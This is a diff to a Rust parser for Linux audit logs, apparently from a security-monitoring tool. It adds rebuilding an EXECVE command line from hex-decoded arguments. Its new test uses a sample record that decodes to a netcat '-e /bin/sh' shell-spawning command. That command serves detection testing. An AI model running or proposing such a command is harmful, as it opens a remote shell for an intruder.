@@ -5,14 +5,19 @@
 //!   `audit: type=1112`, or journald's `USER_AUTH pid=…` behind the tag `audit`.
 //! * What programs report stands in `msg='…'`, with `acct` in quotes; without them it is hex and is left to `native`.
 //! * `auid` is who logged in first, as a number; `AUID="sato"` follows where the log is enriched. 4294967295 is unset.
+//! * `EXECVE` has the arguments of a started program as `a0="…" a1=…`; what holds a blank is hexadecimal.
 //! * Of the lines of one login only `USER_LOGIN` is the login; `USER_AUTH`, `CRED_ACQ` and `USER_ACCT` are steps of it.
 
 use monban_event::{Action, Category, Outcome};
 
 use super::daemon::{moment, on_host, program};
 use super::draft::{Draft, address};
+use super::kv;
 use super::scan::{behind, between};
 use crate::header::Header;
+
+/// Longest command line put together of arguments.
+const COMMAND_BYTES_MAX: usize = 8 << 10;
 
 /// Types that the kernel writes as numbers.
 const NUMBERS: [(&str, &str); 14] = [
@@ -93,11 +98,47 @@ fn read(kind: &str, text: &str, draft: &mut Draft<'_>) {
     draft.source(host);
     draft.event.source_domain =
         Some(host).filter(|host| host.contains('.') && address(host).is_none()).map(str::to_owned);
-    for key in ["op", "terminal", "key", "ses", "id"] {
-        if let Some((_, rest)) = text.split_once(&format!("{key}=")) {
-            draft.native(key, rest.trim_start_matches('"').split([' ', '"', '\'', ')']).next().unwrap_or(""));
+    members(kind, text, draft);
+}
+
+/// Every `key=value`, quotes taken off. The arguments of a started program make its command line.
+fn members(kind: &str, text: &str, draft: &mut Draft<'_>) {
+    let is_execution = kind == "EXECVE";
+    let mut command_line = String::new();
+    let inner = text.replace("msg='", " ").replace('\u{1d}', " ");
+    for (key, value) in kv::pairs(&inner) {
+        if matches!(key, "msg" | "acct" | "node") {
+            continue;
         }
+        let value = value.trim_end_matches('\'');
+        let is_argument = is_execution && is_argument(key);
+        let plain = if is_argument { unhexed(value) } else { None };
+        let value = plain.as_deref().unwrap_or(value);
+        if is_argument && command_line.len() < COMMAND_BYTES_MAX {
+            command_line.push_str(if command_line.is_empty() { "" } else { " " });
+            command_line.push_str(value);
+        }
+        draft.native(key, value);
     }
+    if !command_line.is_empty() {
+        draft.event.process_command_line = Some(command_line);
+    }
+}
+
+/// `a0`, `a12`; `argc` counts them.
+fn is_argument(key: &str) -> bool {
+    key.strip_prefix('a').is_some_and(|number| !number.is_empty() && number.bytes().all(|byte| byte.is_ascii_digit()))
+}
+
+/// An argument with a blank or a quote in it is written without quotes, as hexadecimal digits.
+fn unhexed(value: &str) -> Option<String> {
+    let is_hex =
+        value.len() >= 4 && value.len().is_multiple_of(2) && value.bytes().all(|byte| byte.is_ascii_hexdigit());
+    let digits = is_hex.then_some(value.as_bytes())?;
+    let byte = |pair: &[u8]| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok();
+    let bytes: Option<Vec<u8>> = digits.chunks_exact(2).map(byte).collect();
+    // Without a blank it would have been quoted: then it is a word that only looks like one.
+    String::from_utf8(bytes?).ok().filter(|text| text.contains([' ', '"', '\t', '\n', '\'']) && !text.contains('\0'))
 }
 
 fn somebody(name: &str) -> &str {
@@ -161,6 +202,24 @@ mod tests {
             "<13>Mar  3 09:00:05 db1 kernel: audit: type=1112 audit(1772496000.250:24): pid=9 uid=0 auid=4294967295 \
              msg='op=login acct=\"sato\" addr=192.0.2.9 res=failed'",
             &expected,
+        );
+    }
+
+    #[test]
+    fn a_started_program_with_its_arguments() {
+        check(
+            "type=EXECVE msg=audit(1772496000.250:51): argc=4 a0=\"/usr/bin/nc\" a1=\"-e\" a2=2F62696E2F7368202D69 a3=\"cafe\"",
+            &[
+                ("process.command_line", "/usr/bin/nc -e /bin/sh -i cafe"),
+                ("native.a0", "/usr/bin/nc"),
+                ("native.a2", "/bin/sh -i"),
+                ("native.argc", "4"),
+                ("event.category", "process"),
+            ],
+        );
+        check(
+            "type=SYSCALL msg=audit(1772496000.250:52): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=26 pid=3 auid=1000 comm=\"x\" exe=\"/tmp/x\" key=\"run\"",
+            &[("native.type", "SYSCALL"), ("native.a0", "55d0"), ("native.exe", "/tmp/x"), ("native.key", "run")],
         );
     }
 
